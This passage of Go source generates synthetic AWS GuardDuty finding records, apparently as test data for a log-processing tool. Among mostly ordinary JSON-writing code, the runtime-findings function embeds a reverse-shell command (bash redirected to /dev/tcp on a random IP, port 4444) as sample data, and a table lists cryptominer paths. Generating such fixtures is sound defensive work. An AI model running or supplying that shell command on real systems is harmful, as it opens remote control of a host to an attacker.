package guardduty

import (
	"cmp"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"

	"github.com/logtide/logtide/worker/format"
	"github.com/logtide/logtide/worker/format/jsonw"
)

// summary is what Findings reports about the finding last rendered.
type summary struct {
	arn, id, account, region, typ, actionType string
	createdAt, updatedAt                      time.Time
	severity                                  float64
	count                                     int
	geo                                       []LatLon
}

// gen renders findings one at a time into a reused buffer. A finding is a
// pure function of (seed, index, version): r draws everything both versions
// share, vr only what a re-export changes, and er the attributes of
// long-lived entities (instances, users, buckets...) so that the same
// instance looks the same in every finding that names it.
type gen struct {
	c              *Corpus
	pcg, vpcg, epc rand.PCG
	r, vr, er      *rand.Rand
	w, x           jw // the finding; scratch for additionalInfo
	sum            summary

	fam                 family
	ft                  *findingType
	v                   int
	acctIdx, regionIdx  int
	acct, region        string
	created             time.Time
	instance, host      string
	privateIP           string
	ip, user, bucket    string
	cluster, db, domain string
	api, process        string
	dbEngine            *dbEngine
	port, signals       int
	hoursOfDay          int64
}

func newGen(c *Corpus) *gen {
	g := &gen{c: c}
	g.r = rand.New(&g.pcg)
	g.vr = rand.New(&g.vpcg)
	g.er = rand.New(&g.epc)
	g.w.b = make([]byte, 0, 8<<10)
	g.x.b = make([]byte, 0, 1<<10)
	return g
}

// familyOf picks the family of finding idx. The first findings of a corpus
// take each family once, in a seeded order, so that any corpus with at
// least numFamilies findings has every shape.
func (c *Corpus) familyOf(idx int64, r *rand.Rand) family {
	n := r.IntN(100)
	if idx < int64(numFamilies) {
		return c.famOrder[idx]
	}
	for f, w := range familyWeights {
		if n < w {
			return family(f)
		}
		n -= w
	}
	return famNetwork
}

// render writes version v (1: first export, 2: re-export) of finding idx to
// g.w.b, without a trailing newline, and fills g.sum.
func (g *gen) render(idx int64, v int) {
	c := g.c
	obj := int(idx / int64(c.fpo))
	exported := c.objTime[obj]
	u := uint64(idx)
	g.pcg.Seed(format.Mix64(c.seed^u*0x9e3779b97f4a7c15), format.Mix64(c.seed+u))
	g.vpcg.Seed(format.Mix64(c.seed^u*0xd1b54a32d192ed03^0x7665727331), format.Mix64(^c.seed+u))
	r := g.r
	g.v = v
	g.fam = c.familyOf(idx, r)
	types := findingTypes[g.fam]
	g.ft = &types[r.IntN(len(types))]
	g.acctIdx = r.IntN(len(c.opts.Accounts))
	g.regionIdx = obj % len(c.opts.Regions)
	g.acct = c.opts.Accounts[g.acctIdx]
	g.region = c.opts.Regions[g.regionIdx]
	g.sum.geo = g.sum.geo[:0]
	// Nothing may leak from the previous finding: a finding must render the
	// same whichever finding the gen rendered before.
	g.instance, g.host, g.privateIP, g.ip, g.user, g.bucket = "", "", "", "", "", ""
	g.cluster, g.db, g.domain, g.api, g.process = "", "", "", "", ""
	g.dbEngine, g.port, g.signals = nil, 0, 0

	// New findings are exported within about five minutes of creation.
	created := exported.Add(-time.Duration(30_000+r.IntN(270_000)) * time.Millisecond)
	createdMs := r.IntN(16) != 0
	if !createdMs {
		created = created.Truncate(time.Second)
	}
	g.created = created
	evMs := r.IntN(3) == 0
	first := created.Add(-time.Duration(60+r.IntN(6*3600)) * time.Second).Truncate(time.Second)
	last := first.Add(time.Duration(r.Int64N(int64(created.Sub(first)/time.Second)+1)) * time.Second)
	count := 1
	if r.IntN(5) == 0 {
		count = 2 + r.IntN(40)
	}
	sev := g.ft.severity
	sevAsInt := r.IntN(4) == 0
	withFeature := g.fam >= famKubernetes || r.IntN(10) != 0
	g.hoursOfDay = first.Truncate(time.Hour).UnixMilli()
	updated, updatedMs := created, createdMs
	if v == 2 {
		vr := g.vr
		if k, _ := c.reexportTarget(idx); k > obj {
			updated = c.objTime[k].Add(-time.Duration(10_000+vr.IntN(230_000)) * time.Millisecond)
		} else {
			// Out of order: the newer copy sits in an earlier object.
			updated = exported.Add(5*time.Minute + time.Duration(vr.IntN(55*60_000))*time.Millisecond)
		}
		if updatedMs = vr.IntN(16) != 0; !updatedMs {
			updated = updated.Truncate(time.Second)
		}
		count += 1 + vr.IntN(30)
		last = updated.Add(-time.Duration(vr.IntN(60)) * time.Second).Truncate(time.Second)
		if g.fam != famAttackSequence && sev < 8 && vr.IntN(3) == 0 {
			sev += 3
		}
	}

	var idb [32]byte
	appendHex(idb[:0], format.Mix64(format.Mix64(c.seed^0x1d)+u*0x9e3779b97f4a7c15), 16)
	appendHex(idb[16:16], r.Uint64(), 16)
	id := string(idb[:])
	det := c.detectors[g.acctIdx][g.regionIdx]
	arn := "arn:aws:guardduty:" + g.region + ":" + g.acct + ":detector/" + det + "/finding/" + id

	w := &g.w
	w.reset()
	w.open()
	w.kstr("schemaVersion", "2.0")
	w.kstr("accountId", g.acct)
	w.kstr("region", g.region)
	w.kstr("partition", "aws")
	w.kstr("id", id)
	w.kstr("arn", arn)
	w.kstr("type", g.ft.name)
	w.obj("resource")
	g.resource()
	w.close()
	w.obj("service")
	w.kstr("serviceName", "guardduty")
	w.kstr("detectorId", det)
	g.serviceDetail()
	role := "TARGET"
	if g.ft.direction == "OUTBOUND" {
		role = "ACTOR"
	}
	w.kstr("resourceRole", role)
	g.additionalInfo()
	g.evidence()
	w.kts("eventFirstSeen", first, evMs)
	w.kts("eventLastSeen", last, evMs)
	w.kbool("archived", false)
	w.kint("count", count)
	if withFeature {
		w.kstr("featureName", featureNames[g.fam])
	}
	w.close()
	w.key("severity")
	if sevAsInt {
		w.num(int64(sev))
	} else {
		w.fnum(sev, 1)
	}
	w.kts("createdAt", created, createdMs)
	w.kts("updatedAt", updated, updatedMs)
	w.key("title")
	g.expand(g.ft.title)
	w.key("description")
	g.expand(g.ft.desc)
	w.close()

	g.sum.arn, g.sum.id, g.sum.account, g.sum.region = arn, arn[len(arn)-32:], g.acct, g.region
	g.sum.typ, g.sum.actionType = g.ft.name, actionTypes[g.fam]
	g.sum.createdAt, g.sum.updatedAt = created, updated
	g.sum.severity, g.sum.count = sev, count
}

// expand writes a title or description template as a JSON string.
func (g *gen) expand(tmpl string) {
	w := &g.w
	w.sep()
	w.b = append(w.b, '"')
	for {
		i := strings.IndexByte(tmpl, '{')
		if i < 0 {
			break
		}
		j := strings.IndexByte(tmpl[i:], '}')
		if j < 0 {
			break
		}
		w.b = jsonw.Chars(w.b, tmpl[:i])
		var val string
		switch tmpl[i+1 : i+j] {
		case "instance":
			val = g.instance
		case "host":
			val = g.host
		case "ip":
			val = g.ip
		case "user":
			val = g.user
		case "bucket":
			val = g.bucket
		case "cluster":
			val = g.cluster
		case "db":
			val = g.db
		case "port":
			w.b = strconv.AppendInt(w.b, int64(g.port), 10)
		case "domain":
			val = g.domain
		case "api":
			val = g.api
		case "process":
			val = g.process
		case "account":
			val = g.acct
		case "n":
			w.b = strconv.AppendInt(w.b, int64(g.signals), 10)
		}
		w.b = jsonw.Chars(w.b, val)
		tmpl = tmpl[i+j+1:]
	}
	w.b = jsonw.Chars(w.b, tmpl)
	w.b = append(w.b, '"')
	w.comma = true
}

// seedEntity points g.er at entity n of a kind within the finding's account
// and region.
func (g *gen) seedEntity(kind uint64, n int) {
	a := uint64(g.acctIdx)<<40 | uint64(g.regionIdx)<<20 | uint64(n)
	g.epc.Seed(format.Mix64(g.c.seed^kind*0x9e3779b97f4a7c15), format.Mix64(g.c.seed+a))
}

func (g *gen) resource() {
	w, r := &g.w, g.r
	switch g.fam {
	case famPortProbe, famNetwork, famDNS:
		w.kstr("resourceType", "Instance")
		g.instanceDetails()
	case famIAM:
		w.kstr("resourceType", "AccessKey")
		g.accessKeyDetails()
	case famS3:
		w.kstr("resourceType", "S3Bucket")
		g.accessKeyDetails()
		g.s3BucketDetails()
	case famKubernetes:
		w.kstr("resourceType", "EKSCluster")
		g.eksClusterDetails()
		g.kubernetesDetails(false)
	case famRDS:
		w.kstr("resourceType", "RDSDBInstance")
		g.rdsDetails()
	case famRuntime:
		if r.IntN(3) == 0 {
			w.kstr("resourceType", "EKSCluster")
			g.eksClusterDetails()
			g.kubernetesDetails(true)
			g.host = "EKS cluster " + g.cluster
		} else {
			w.kstr("resourceType", "Instance")
			g.instanceDetails()
			g.host = "EC2 instance " + g.instance
		}
	case famMalware:
		w.kstr("resourceType", "Instance")
		g.instanceDetails()
		g.ebsVolumeDetails()
	case famAttackSequence:
		w.kstr("resourceType", "AttackSequence")
	}
}

var awsIPPrefixes = []byte{3, 18, 34, 44, 52, 54}

func (g *gen) instanceDetails() {
	w, r, er := &g.w, g.r, g.er
	g.seedEntity(1, r.IntN(40))
	g.instance = "i-0" + hexStr(er, 16)
	typ := pick(er, instanceTypes)
	launch := g.c.opts.Start.Add(-time.Duration(3600+er.IntN(400*24*3600)) * time.Second)
	img := &images[er.IntN(len(images))]
	ami := "ami-0" + hexStr(er, 16)
	priv := ipv4(10, byte(er.IntN(4)), byte(er.IntN(256)), byte(1+er.IntN(254)))
	pub := [4]byte{pick(er, awsIPPrefixes), byte(er.IntN(256)), byte(er.IntN(256)), byte(1 + er.IntN(254))}
	subnet := "subnet-0" + hexStr(er, 16)
	vpc := "vpc-0" + hexOf(g.c.seed^0x767063, uint64(g.acctIdx)<<8|uint64(g.regionIdx), 16)
	eni := "eni-0" + hexStr(er, 16)
	sgName := pick(er, []string{"default", "web-sg", "app-sg", "ssh-admin", "launch-wizard-3"})
	sgID := "sg-0" + hexStr(er, 16)
	role := pick(er, hostRoles)
	name := role + "-" + strconv.Itoa(1+er.IntN(12))
	env, team := pick(er, environments), pick(er, teams)
	profile := pick(er, roleNames)
	profileID := "AIPA" + upperStr(er, 17)
	az := g.region + string("abc"[er.IntN(3)])
	g.privateIP = priv

	w.obj("instanceDetails")
	w.kstr("instanceId", g.instance)
	w.kstr("instanceType", typ)
	w.key("launchTime")
	if r.IntN(3) == 0 {
		w.num(launch.UnixMilli())
	} else {
		w.ts(launch, true)
	}
	if img.windows {
		w.kstr("platform", "windows")
	} else {
		w.klit("platform", "null")
	}
	w.arr("productCodes")
	w.closeArr()
	w.obj("iamInstanceProfile")
	w.kstr("arn", "arn:aws:iam::"+g.acct+":instance-profile/"+profile)
	w.kstr("id", profileID)
	w.close()
	w.arr("networkInterfaces")
	w.open()
	w.arr("ipv6Addresses")
	w.closeArr()
	w.kstr("networkInterfaceId", eni)
	privDNS := "ip-" + strings.ReplaceAll(priv, ".", "-")
	if g.region == "us-east-1" {
		privDNS += ".ec2.internal"
	} else {
		privDNS += "." + g.region + ".compute.internal"
	}
	w.kstr("privateDnsName", privDNS)
	w.kstr("privateIpAddress", priv)
	w.arr("privateIpAddresses")
	w.open()
	w.kstr("privateDnsName", privDNS)
	w.kstr("privateIpAddress", priv)
	w.close()
	w.closeArr()
	w.kstr("subnetId", subnet)
	w.kstr("vpcId", vpc)
	w.arr("securityGroups")
	w.open()
	w.kstr("groupName", sgName)
	w.kstr("groupId", sgID)
	w.close()
	w.closeArr()
	pubIP := ipv4(pub[0], pub[1], pub[2], pub[3])
	pubDNS := "ec2-" + strings.ReplaceAll(pubIP, ".", "-")
	if g.region == "us-east-1" {
		pubDNS += ".compute-1.amazonaws.com"
	} else {
		pubDNS += "." + g.region + ".compute.amazonaws.com"
	}
	w.kstr("publicDnsName", pubDNS)
	w.kstr("publicIp", pubIP)
	w.close()
	w.closeArr()
	w.arr("tags")
	tag(w, "Name", name)
	tag(w, "Environment", env)
	tag(w, "Team", team)
	w.closeArr()
	w.kstr("instanceState", "running")
	w.kstr("availabilityZone", az)
	w.kstr("imageId", ami)
	w.kstr("imageDescription", img.desc)
	w.close()
}

func tag(w *jw, k, v string) {
	w.open()
	w.kstr("key", k)
	w.kstr("value", v)
	w.close()
}

func (g *gen) accessKeyDetails() {
	w, r, er := &g.w, g.r, g.er
	var keyID, principal, userType string
	switch g.ft.userType {
	case "Root":
		g.seedEntity(2, 999)
		keyID, principal, userType, g.user = "ASIA"+upperStr(er, 16), g.acct, "Root", "Root"
	case "AssumedRole":
		n := r.IntN(len(roleNames))
		g.seedEntity(3, n)
		g.user = roleNames[n]
		session := "i-0" + hexStr(er, 16)
		keyID = "ASIA" + upperStr(er, 16)
		principal = "AROA" + upperStr(er, 17) + ":" + session
		userType = "AssumedRole"
	default:
		n := r.IntN(len(iamUsers))
		g.seedEntity(2, n)
		g.user = iamUsers[n]
		keyID, principal, userType = "AKIA"+upperStr(er, 16), "AIDA"+upperStr(er, 17), "IAMUser"
	}
	w.obj("accessKeyDetails")
	w.kstr("accessKeyId", keyID)
	w.kstr("principalId", principal)
	w.kstr("userType", userType)
	w.kstr("userName", g.user)
	w.close()
}

func (g *gen) s3BucketDetails() {
	w, r, er := &g.w, g.r, g.er
	n := r.IntN(12)
	g.seedEntity(4, n)
	g.bucket = "acme-" + bucketKinds[n%len(bucketKinds)] + "-" + g.region
	if n >= len(bucketKinds) {
		g.bucket += "-" + strconv.Itoa(n/len(bucketKinds)+1)
	}
	created := g.c.opts.Start.Add(-time.Duration(86400+er.IntN(1500*86400))*time.Second - time.Duration(er.IntN(1000))*time.Millisecond)
	owner := hexStr(er, 64)
	kms := er.IntN(2) == 0
	keyUUID := uuid4(er.Uint64(), er.Uint64())
	blocked := g.ft.name != "Policy:S3/BucketBlockPublicAccessDisabled"

	w.arr("s3BucketDetails")
	w.open()
	w.kstr("arn", "arn:aws:s3:::"+g.bucket)
	w.kstr("name", g.bucket)
	w.kstr("type", "Destination")
	w.key("createdAt")
	if r.IntN(2) == 0 {
		// Epoch seconds with a fraction, as in the real S3 sample.
		w.fnum(float64(created.UnixMilli())/1000, 3)
	} else {
		w.ts(created, true)
	}
	w.obj("owner")
	w.kstr("id", owner)
	w.close()
	w.arr("tags")
	tag(w, "Environment", pick(er, environments))
	w.closeArr()
	w.obj("defaultServerSideEncryption")
	if kms {
		w.kstr("encryptionType", "aws:kms")
		w.kstr("kmsMasterKeyArn", "arn:aws:kms:"+g.region+":"+g.acct+":key/"+keyUUID)
	} else {
		w.kstr("encryptionType", "AES256")
	}
	w.close()
	w.obj("publicAccess")
	w.obj("permissionConfiguration")
	w.obj("bucketLevelPermissions")
	w.obj("accessControlList")
	w.kbool("allowsPublicReadAccess", false)
	w.kbool("allowsPublicWriteAccess", false)
	w.close()
	w.obj("bucketPolicy")
	w.kbool("allowsPublicReadAccess", false)
	w.kbool("allowsPublicWriteAccess", false)
	w.close()
	blockPublicAccess(w, blocked)
	w.close()
	w.obj("accountLevelPermissions")
	blockPublicAccess(w, blocked)
	w.close()
	w.close()
	w.kstr("effectivePermission", "NOT_PUBLIC")
	w.close()
	w.close()
	w.closeArr()
}

func blockPublicAccess(w *jw, on bool) {
	w.obj("blockPublicAccess")
	w.kbool("ignorePublicAcls", on)
	w.kbool("restrictPublicBuckets", on)
	w.kbool("blockPublicAcls", on)
	w.kbool("blockPublicPolicy", on)
	w.close()
}

func (g *gen) eksClusterDetails() {
	w, r, er := &g.w, g.r, g.er
	n := r.IntN(len(clusterNames))
	g.seedEntity(5, n)
	g.cluster = clusterNames[n]
	created := g.c.opts.Start.Add(-time.Duration(86400+er.IntN(700*86400)) * time.Second)
	w.obj("eksClusterDetails")
	w.kstr("name", g.cluster)
	w.kstr("arn", "arn:aws:eks:"+g.region+":"+g.acct+":cluster/"+g.cluster)
	w.kstr("vpcId", "vpc-0"+hexOf(g.c.seed^0x767063, uint64(g.acctIdx)<<8|uint64(g.regionIdx), 16))
	w.kstr("status", "ACTIVE")
	w.arr("tags")
	tag(w, "Environment", pick(er, environments))
	w.closeArr()
	w.key("createdAt")
	if r.IntN(2) == 0 {
		w.fnum(float64(created.UnixMilli())/1000, 3)
	} else {
		w.ts(created, true)
	}
	w.close()
}

// kubernetesDetails writes resource.kubernetesDetails: the caller for audit
// log findings, the workload for runtime findings.
func (g *gen) kubernetesDetails(runtime bool) {
	w, r := &g.w, g.r
	w.obj("kubernetesDetails")
	if !runtime {
		user := g.ft.k8sUser
		w.obj("kubernetesUserDetails")
		switch user {
		case "system:anonymous":
			w.kstr("username", user)
			w.kstr("uid", "")
			w.arr("groups")
			w.str("system:unauthenticated")
			w.closeArr()
		case "kubernetes-admin":
			w.kstr("username", user)
			w.kstr("uid", "aws-iam-authenticator:"+g.acct+":AIDA"+upperStr(r, 17))
			w.arr("groups")
			w.str("system:masters")
			w.str("system:authenticated")
			w.closeArr()
		default:
			w.kstr("username", "arn:aws:sts::"+g.acct+":assumed-role/"+user+"/"+user+"-session")
			w.kstr("uid", "aws-iam-authenticator:"+g.acct+":AROA"+upperStr(r, 17))
			w.arr("groups")
			w.str("system:authenticated")
			w.closeArr()
			w.kstr("sessionName", user+"-session")
		}
		w.close()
		g.user = user
	}
	if runtime || strings.HasPrefix(g.ft.name, "PrivilegeEscalation:") || strings.HasPrefix(g.ft.name, "Execution:") {
		app := pick(r, []string{"api", "worker", "checkout", "debug", "metrics-agent"})
		ns := pick(r, k8sNamespaces)
		w.obj("kubernetesWorkloadDetails")
		w.kstr("name", app+"-"+hexStr(r, 5))
		w.kstr("type", "pods")
		w.kstr("uid", uuid4(r.Uint64(), r.Uint64()))
		w.kstr("namespace", ns)
		w.arr("containers")
		w.open()
		w.kstr("containerRuntime", "containerd")
		w.kstr("id", hexStr(r, 64))
		w.kstr("name", app)
		repo := g.acct + ".dkr.ecr." + g.region + ".amazonaws.com"
		w.kstr("image", repo+"/"+app+":1."+strconv.Itoa(r.IntN(20))+"."+strconv.Itoa(r.IntN(10)))
		w.kstr("imagePrefix", repo)
		w.obj("securityContext")
		w.kbool("privileged", strings.HasPrefix(g.ft.name, "PrivilegeEscalation:Kubernetes"))
		w.close()
		w.close()
		w.closeArr()
		w.close()
	}
	w.close()
}

func (g *gen) rdsDetails() {
	w, r := &g.w, g.r
	n := r.IntN(6)
	eng := &dbEngines[n%len(dbEngines)]
	g.dbEngine = eng
	name := dbNames[n%len(dbNames)]
	g.db = name + "-db-" + strconv.Itoa(n+1)
	w.obj("rdsDbInstanceDetails")
	w.kstr("dbInstanceIdentifier", g.db)
	w.kstr("engine", eng.engine)
	w.kstr("engineVersion", eng.version)
	if strings.HasPrefix(eng.engine, "aurora") {
		w.kstr("dbClusterIdentifier", name+"-cluster")
	}
	w.kstr("dbInstanceArn", "arn:aws:rds:"+g.region+":"+g.acct+":db:"+g.db)
	w.arr("tags")
	tag(w, "Environment", pick(r, environments))
	w.closeArr()
	w.close()
	w.obj("rdsDbUserDetails")
	w.kstr("user", eng.user)
	w.kstr("application", eng.app)
	w.kstr("database", name)
	w.kstr("ssl", "true")
	w.kstr("authMethod", "PASSWORD")
	w.close()
}

func (g *gen) ebsVolumeDetails() {
	w, r := &g.w, g.r
	vol := "vol-0" + hexStr(r, 16)
	w.obj("ebsVolumeDetails")
	w.arr("scannedVolumeDetails")
	w.open()
	w.kstr("volumeArn", "arn:aws:ec2:"+g.region+":"+g.acct+":volume/"+vol)
	w.kstr("volumeType", pick(r, []string{"gp3", "gp2"}))
	w.kstr("deviceName", "/dev/xvda")
	w.kint("volumeSizeInGB", 8<<r.IntN(5))
	w.kstr("encryptionType", pick(r, []string{"UNENCRYPTED", "CMK"}))
	w.kstr("snapshotArn", "arn:aws:ec2:"+g.region+":"+g.acct+":snapshot/snap-0"+hexStr(r, 16))
	w.close()
	w.closeArr()
	w.arr("skippedVolumeDetails")
	w.closeArr()
	w.close()
}

// sampleRemote is a remote endpoint drawn for remoteIpDetails.
type sampleRemote struct {
	p      *place
	ip     string
	asnInt bool
}

func drawRemote(r *rand.Rand, tor bool) sampleRemote {
	var p *place
	if tor {
		p = &torPlaces[r.IntN(len(torPlaces))]
	} else {
		p = &places[r.IntN(len(places))]
	}
	return sampleRemote{p: p, ip: ipv4(p.ip[0], p.ip[1], byte(r.IntN(256)), byte(1+r.IntN(254))), asnInt: r.IntN(5) == 0}
}

// remoteIPDetails writes remoteIpDetails and records its geoLocation.
func (g *gen) remoteIPDetails(rm sampleRemote) {
	w, p := &g.w, rm.p
	w.obj("remoteIpDetails")
	w.kstr("ipAddressV4", rm.ip)
	w.obj("organization")
	w.key("asn")
	if rm.asnInt {
		w.num(int64(p.asn))
	} else {
		w.str(strconv.Itoa(p.asn))
	}
	w.kstr("asnOrg", p.asnOrg)
	w.kstr("isp", p.isp)
	w.kstr("org", p.org)
	w.close()
	w.obj("country")
	w.kstr("countryName", p.country)
	w.close()
	w.obj("city")
	w.kstr("cityName", p.city)
	w.close()
	w.obj("geoLocation")
	w.key("lat")
	w.fnum(p.lat, -1)
	w.key("lon")
	w.fnum(p.lon, -1)
	w.close()
	w.close()
	g.sum.geo = append(g.sum.geo, LatLon{p.lat, p.lon})
}

func portName(p int) string {
	switch p {
	case 22:
		return "SSH"
	case 23:
		return "Telnet"
	case 80:
		return "HTTP"
	case 443:
		return "HTTPS"
	case 3389:
		return "RDP"
	case 3306:
		return "MYSQL"
	case 5432:
		return "POSTGRESQL"
	}
	return "Unknown"
}

func portDetails(w *jw, k string, port int) {
	w.obj(k)
	w.kint("port", port)
	w.kstr("portName", portName(port))
	w.close()
}

// serviceDetail writes what sits between detectorId and resourceRole: the
// action, or the runtime / scan / sequence details of action-less families.
func (g *gen) serviceDetail() {
	w, r, ft := &g.w, g.r, g.ft
	switch g.fam {
	case famPortProbe:
		base, extra := 2+r.IntN(4), 0
		if g.v == 2 {
			// An updated probe finding has seen more probes.
			extra = 1 + g.vr.IntN(2)
		}
		w.obj("action")
		w.kstr("actionType", "PORT_PROBE")
		w.obj("portProbeAction")
		w.kbool("blocked", false)
		w.arr("portProbeDetails")
		for i := range base + extra {
			rr := r
			if i >= base {
				rr = g.vr
			}
			pp := pick(rr, probedPorts)
			if ft.localPort != 0 {
				pp = pick(rr, emrPorts)
			}
			rm := drawRemote(rr, false)
			if i == 0 {
				g.port, g.ip = pp.port, rm.ip
			}
			w.open()
			w.obj("localPortDetails")
			w.kint("port", pp.port)
			w.kstr("portName", pp.name)
			w.close()
			w.obj("localIpDetails")
			w.kstr("ipAddressV4", g.privateIP)
			w.close()
			g.remoteIPDetails(rm)
			w.close()
		}
		w.closeArr()
		w.close()
		w.close()
	case famNetwork:
		rm := drawRemote(r, false)
		g.ip = rm.ip
		ephemeral := 32768 + r.IntN(28000)
		w.obj("action")
		w.kstr("actionType", "NETWORK_CONNECTION")
		w.obj("networkConnectionAction")
		w.kstr("connectionDirection", ft.direction)
		g.remoteIPDetails(rm)
		if ft.direction == "INBOUND" {
			g.port = ft.localPort
			portDetails(w, "remotePortDetails", ephemeral)
			portDetails(w, "localPortDetails", ft.localPort)
		} else {
			g.port = ft.remotePort
			if ft.unusual {
				g.port = pick(r, []int{5555, 6667, 1337, 31337, 4444})
			}
			portDetails(w, "remotePortDetails", g.port)
			portDetails(w, "localPortDetails", ephemeral)
		}
		w.kstr("protocol", "TCP")
		w.kbool("blocked", false)
		w.obj("localIpDetails")
		w.kstr("ipAddressV4", g.privateIP)
		w.close()
		w.close()
		w.close()
	case famDNS:
		g.domain = pick(r, ft.domains)
		w.obj("action")
		w.kstr("actionType", "DNS_REQUEST")
		w.obj("dnsRequestAction")
		w.kstr("domain", g.domain)
		w.kstr("protocol", "UDP")
		w.kbool("blocked", false)
		w.kstr("domainWithSuffix", domainSuffix(g.domain))
		w.close()
		w.close()
	case famIAM, famS3:
		g.api = pick(r, ft.apis)
		rm := drawRemote(r, ft.tor)
		g.ip = rm.ip
		w.obj("action")
		w.kstr("actionType", "AWS_API_CALL")
		w.obj("awsApiCallAction")
		w.kstr("api", g.api)
		w.kstr("serviceName", ft.apiService)
		w.kstr("callerType", "Remote IP")
		if r.IntN(5) == 0 {
			w.kstr("errorCode", "AccessDenied")
		}
		g.remoteIPDetails(rm)
		w.obj("affectedResources")
		switch {
		case g.fam == famS3:
			w.kstr("AWS::S3::Bucket", g.bucket)
		case ft.apiService == "cloudtrail.amazonaws.com":
			w.kstr("AWS::CloudTrail::Trail", "arn:aws:cloudtrail:"+g.region+":"+g.acct+":trail/management-events")
		}
		w.close()
		w.close()
		w.close()
	case famKubernetes:
		rm := drawRemote(r, false)
		g.ip = rm.ip
		w.obj("action")
		w.kstr("actionType", "KUBERNETES_API_CALL")
		w.obj("kubernetesApiCallAction")
		w.kstr("requestUri", ft.uri)
		w.kstr("verb", ft.verb)
		w.arr("sourceIPs")
		w.str(rm.ip)
		if r.IntN(4) == 0 {
			w.str(ipv4(10, 0, byte(r.IntN(256)), byte(1+r.IntN(254))))
		}
		w.closeArr()
		w.kstr("userAgent", pick(r, userAgents))
		g.remoteIPDetails(rm)
		status := 200
		if ft.verb == "create" {
			status = 201
		}
		w.kint("statusCode", status)
		parts := strings.Split(strings.TrimPrefix(strings.SplitN(ft.uri, "?", 2)[0], "/"), "/")
		for i, p := range parts {
			if p == "namespaces" && i+1 < len(parts) {
				w.kstr("namespace", parts[i+1])
			}
		}
		w.close()
		w.close()
	case famRDS:
		rm := drawRemote(r, ft.tor)
		g.ip = rm.ip
		eng := g.dbEngine
		failed := 200 + r.IntN(5000)
		ok := 0
		if !ft.failed {
			ok = 1 + r.IntN(3)
		}
		w.obj("action")
		w.kstr("actionType", "RDS_LOGIN_ATTEMPT")
		w.obj("rdsLoginAttemptAction")
		g.remoteIPDetails(rm)
		// The API reference spells this member with a capital L.
		w.arr("LoginAttributes")
		w.open()
		w.kstr("user", eng.user)
		w.kstr("application", eng.app)
		w.kint("failedLoginAttempts", failed)
		w.kint("successfulLoginAttempts", ok)
		w.close()
		w.closeArr()
		w.close()
		w.close()
	case famRuntime:
		g.runtimeDetails()
	case famMalware:
		g.ebsVolumeScanDetails()
	case famAttackSequence:
		g.detection()
	}
}

func domainSuffix(d string) string {
	i := strings.LastIndexByte(d, '.')
	if i <= 0 {
		return d
	}
	if j := strings.LastIndexByte(d[:i], '.'); j >= 0 {
		return d[j+1:]
	}
	return d
}

var processPaths = map[string]string{
	"kdevtmpfsi": "/tmp/kdevtmpfsi",
	"bash":       "/usr/bin/bash",
	"xmrig":      "/var/tmp/.x/xmrig",
	"curl":       "/usr/bin/curl",
	"gdb":        "/usr/bin/gdb",
	"nmap":       "/usr/bin/nmap",
	"python3":    "/usr/bin/python3.11",
}

func (g *gen) process1(name, path string, start time.Time, parent string) string {
	w, r := &g.w, g.r
	uuid := uuid4(r.Uint64(), r.Uint64())
	pid := 1000 + r.IntN(60000)
	w.kstr("name", name)
	w.kstr("executablePath", path)
	w.kstr("executableSha256", hexStr(r, 64))
	w.kint("namespacePid", pid)
	w.kstr("pwd", pick(r, []string{"/tmp", "/root", "/home/ec2-user", "/app"}))
	w.kint("pid", pid)
	w.kts("startTime", start, true)
	w.kstr("uuid", uuid)
	w.kstr("parentUuid", parent)
	w.kstr("user", "root")
	w.kint("userId", 0)
	w.kint("euid", 0)
	return uuid
}

func (g *gen) runtimeDetails() {
	w, r, ft := &g.w, g.r, g.ft
	g.process = ft.process
	start := g.created.Add(-time.Duration(1+r.IntN(3600)) * time.Second).Truncate(time.Millisecond)
	parent := uuid4(r.Uint64(), r.Uint64())
	grand := uuid4(r.Uint64(), r.Uint64())
	w.obj("runtimeDetails")
	w.obj("process")
	g.process1(ft.process, processPaths[ft.process], start, parent)
	w.arr("lineage")
	w.open()
	w.kts("startTime", start.Add(-2*time.Second), true)
	w.kint("namespacePid", 900+r.IntN(100))
	w.kint("userId", 0)
	w.kstr("name", "sh")
	w.kint("pid", 900+r.IntN(100))
	w.kstr("uuid", parent)
	w.kstr("executablePath", "/usr/bin/dash")
	w.kint("euid", 0)
	w.kstr("parentUuid", grand)
	w.close()
	w.open()
	w.kts("startTime", start.Add(-time.Duration(1+r.IntN(86400))*time.Second), true)
	w.kint("namespacePid", 1)
	w.kint("userId", 0)
	w.kstr("name", "systemd")
	w.kint("pid", 1)
	w.kstr("uuid", grand)
	w.kstr("executablePath", "/usr/lib/systemd/systemd")
	w.kint("euid", 0)
	w.kstr("parentUuid", "")
	w.close()
	w.closeArr()
	w.close()
	switch ft.context {
	case "modifying":
		w.obj("context")
		w.obj("modifyingProcess")
		g.process1("curl", "/usr/bin/curl", start.Add(-30*time.Second), parent)
		w.close()
		w.kts("modifiedAt", start.Add(-20*time.Second), true)
		w.close()
	case "command":
		ip := ipv4(pick(r, []byte{45, 103, 185, 194}), byte(r.IntN(256)), byte(r.IntN(256)), byte(1+r.IntN(254)))
		w.obj("context")
		w.kstr("commandLineExample", "bash -i >& /dev/tcp/"+ip+"/4444 0>&1")
		w.close()
	case "socket":
		w.obj("context")
		w.kstr("socketPath", "/var/run/docker.sock")
		w.close()
	case "target":
		w.obj("context")
		w.obj("targetProcess")
		g.process1("sshd", "/usr/sbin/sshd", start.Add(-time.Hour), grand)
		w.close()
		w.close()
	case "tool":
		w.obj("context")
		w.kstr("toolName", "nmap")
		w.kstr("toolCategory", "Network scanner")
		w.close()
	case "memory":
		w.obj("context")
		w.arr("memoryRegions")
		w.str("/memfd: (deleted)")
		w.closeArr()
		w.close()
	}
	w.close()
}

func (g *gen) ebsVolumeScanDetails() {
	w, r := &g.w, g.r
	mw := &malwares[r.IntN(len(malwares))]
	started := g.created.Add(-time.Duration(10*60+r.IntN(20*60)) * time.Second)
	done := started.Add(time.Duration(60+r.IntN(7*60)) * time.Second)
	files := 20000 + r.IntN(200000)
	w.obj("ebsVolumeScanDetails")
	w.kstr("scanId", hexStr(r, 32))
	w.knum("scanStartedAt", started.UnixMilli())
	w.knum("scanCompletedAt", done.UnixMilli())
	w.kstr("triggerFindingId", hexStr(r, 32))
	w.arr("sources")
	w.str("Bitdefender")
	w.str("Amazon")
	w.closeArr()
	w.obj("scanDetections")
	w.obj("scannedItemCount")
	w.kint("totalGb", 8)
	w.kint("files", files)
	w.kint("volumes", 1)
	w.close()
	w.obj("threatsDetectedItemCount")
	w.kint("files", 1)
	w.close()
	w.obj("highestSeverityThreatDetails")
	w.kstr("severity", mw.severity)
